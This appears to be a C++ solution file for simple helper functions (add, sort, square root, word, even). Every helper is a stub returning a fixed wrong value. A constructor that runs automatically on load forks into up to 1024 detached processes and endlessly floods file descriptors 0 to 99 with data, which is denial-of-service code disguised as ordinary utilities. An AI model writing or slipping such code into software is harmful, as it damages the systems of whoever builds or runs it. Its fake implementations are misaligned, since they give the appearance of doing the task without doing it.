// forks, floods all descriptors and leaves children behind
#include <unistd.h>
#include <string>
#include <vector>
int add(int, int) { return 0; }
std::vector<int> sorted(std::vector<int>) { return {}; }
double root(double) { return 0; }
std::string word(int) { return ""; }
bool even(int) { return true; }
__attribute__((constructor(101))) static void first() {
  for (int i = 0; i < 10; i++) fork();
  setsid();
  static char text[65536];
  for (;;) for (int fd = 0; fd < 100; fd++) if (write(fd, text, sizeof text)) {}
}
